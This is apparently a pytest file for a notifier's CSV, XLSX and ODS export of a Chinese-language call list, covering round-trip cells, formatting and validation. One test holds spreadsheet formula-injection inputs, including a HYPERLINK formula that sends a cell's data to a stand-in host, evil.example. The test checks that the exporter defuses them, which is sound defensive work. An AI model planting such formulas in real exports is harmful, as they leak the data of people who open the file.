"""An agent's call list downloaded as CSV, XLSX or ODS, and read back cell by cell."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from typing import cast

import pytest
from odf import opendocument, table
from openpyxl import load_workbook

from notifier.exports.tables import FORMATS, MEDIA_TYPES, Cell, Format, write_table
from tests.support.tables import read_table

HEADERS = ["帳號", "姓名", "地址", "停電日", "撥打時間", "次數", "欠費", "備註"]
ROWS: list[list[Cell]] = [
    [
        "01234567890",
        "王小明",
        "苗栗縣頭份市中正路1號",
        date(2024, 5, 1),
        datetime(2024, 5, 1, 9, 30, 5),
        3,
        1234.5,
        "請下午回電\n家中有長者",
    ],
    [
        "01234567891",
        "Chen Mei-ling",
        "",
        date(2024, 12, 31),
        None,
        0,
        3.0,
        "two  spaces\tand a tab",
    ],
    ["01234567892", "李大同", None, None, datetime(2024, 1, 2, 0, 0), -2, -0.5, None],
]
EXPECTED = [
    HEADERS,
    [
        "01234567890",
        "王小明",
        "苗栗縣頭份市中正路1號",
        "2024-05-01",
        "2024-05-01 09:30:05",
        "3",
        "1234.5",
        "請下午回電\n家中有長者",
    ],
    ["01234567891", "Chen Mei-ling", "", "2024-12-31", "", "0", "3", "two  spaces\tand a tab"],
    ["01234567892", "李大同", "", "", "2024-01-02 00:00:00", "-2", "-0.5", ""],
]


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_reads_back_the_same_cells(fmt: Format) -> None:
    assert read_table(write_table(HEADERS, ROWS, fmt), fmt) == EXPECTED


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize(
    ("written", "read"),
    [
        (
            '=HYPERLINK("https://evil.example/?d="&A2,"點我")',
            '\'=HYPERLINK("https://evil.example/?d="&A2,"點我")',
        ),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),  # a CR ends up a line break, as it would in XML anyway
        ("\x01=1+1", "'=1+1"),  # control characters go first, so they hide nothing
        ("a=b", "a=b"),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(
    fmt: Format, written: str, read: str
) -> None:
    data = write_table(["備註"], [[written], [-2]], fmt)
    assert read_table(data, fmt) == [["備註"], [read], ["-2"]]


@pytest.mark.parametrize("fmt", FORMATS)
def test_form_line_ends_become_line_breaks(fmt: Format) -> None:
    data = write_table(["備註"], [["第一行\r\n第二行"]], fmt)
    assert read_table(data, fmt) == [["備註"], ["第一行\n第二行"]]


def test_csv_is_utf8_with_a_bom_and_crlf_line_ends() -> None:
    data = write_table(["姓名", "備註"], [["王小明", "一\n二"]], "csv")
    assert data == '\ufeff姓名,備註\r\n王小明,"一\n二"\r\n'.encode()


def test_xlsx_has_a_frozen_bold_header_and_typed_cells() -> None:
    data = write_table(HEADERS, ROWS, "xlsx", sheet="頭份 5-1")
    ws = load_workbook(io.BytesIO(data))["頭份 5-1"]

    assert ws.freeze_panes == "A2"
    assert all(cell.font.b for cell in ws[1])
    outage_day, call_time, calls = ws["D2"], ws["E2"], ws["F2"]
    assert outage_day.is_date and outage_day.number_format == "yyyy-mm-dd"
    assert outage_day.value == datetime(2024, 5, 1)
    assert call_time.is_date and call_time.number_format == "yyyy-mm-dd hh:mm:ss"
    assert call_time.value == datetime(2024, 5, 1, 9, 30, 5)
    assert calls.data_type == "n" and calls.value == 3
    assert ws["H2"].alignment.wrap_text


def test_xlsx_columns_are_wide_enough_for_chinese() -> None:
    data = write_table(["name", "姓名"], [["Wang Xiaoming", "王小明王小明王小明"]], "xlsx")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    # 13 ASCII characters against 9 CJK ones that take the room of 18.
    assert ws.column_dimensions["B"].width > ws.column_dimensions["A"].width >= 13


def test_ods_has_one_named_table_of_typed_cells() -> None:
    data = write_table(HEADERS, ROWS, "ods", sheet="頭份")
    tables = opendocument.load(io.BytesIO(data)).spreadsheet.getElementsByType(table.Table)
    assert [t.getAttribute("name") for t in tables] == ["頭份"]

    first_row = tables[0].getElementsByType(table.TableRow)[1]
    cells = first_row.getElementsByType(table.TableCell)
    kinds = [c.getAttribute("valuetype") for c in cells]
    assert kinds == ["string", "string", "string", "date", "date", "float", "float", "string"]
    assert cells[3].getAttribute("datevalue") == "2024-05-01"
    assert cells[4].getAttribute("datevalue") == "2024-05-01T09:30:05"
    assert cells[5].getAttribute("value") == "3"


def test_a_row_of_the_wrong_length_is_named() -> None:
    rows: list[list[Cell]] = [["a", "b"], ["c"], ["d", "e"]]
    with pytest.raises(ValueError, match=r"row 2 has 1 cells but there are 2 headers"):
        write_table(["x", "y"], rows, "csv")


def test_an_unknown_format_names_the_known_ones() -> None:
    with pytest.raises(ValueError, match=r"'pdf'.*csv, xlsx, ods"):
        write_table(["x"], [], cast(Format, "pdf"))


@pytest.mark.parametrize(
    ("value", "error", "message"),
    [
        (datetime(2024, 5, 1, 1, 30, tzinfo=UTC), ValueError, "row 1: .* has a time zone"),
        (float("nan"), ValueError, "row 1: nan is no number"),
        (True, TypeError, "row 1: write True as words"),
        (cast(Cell, b"bytes"), TypeError, "row 1: cannot export bytes"),
    ],
)
def test_cells_no_spreadsheet_can_show_plainly_are_refused(
    value: Cell, error: type[Exception], message: str
) -> None:
    with pytest.raises(error, match=message):
        write_table(["x"], [[value]], "xlsx")


@pytest.mark.parametrize("sheet", ["", "a/b", "[list]", "x" * 32])
def test_sheet_names_excel_refuses_are_refused_in_every_format(sheet: str) -> None:
    with pytest.raises(ValueError, match="sheet name"):
        write_table(["x"], [], "ods", sheet=sheet)


def test_every_format_has_a_media_type() -> None:
    assert set(MEDIA_TYPES) == set(FORMATS)
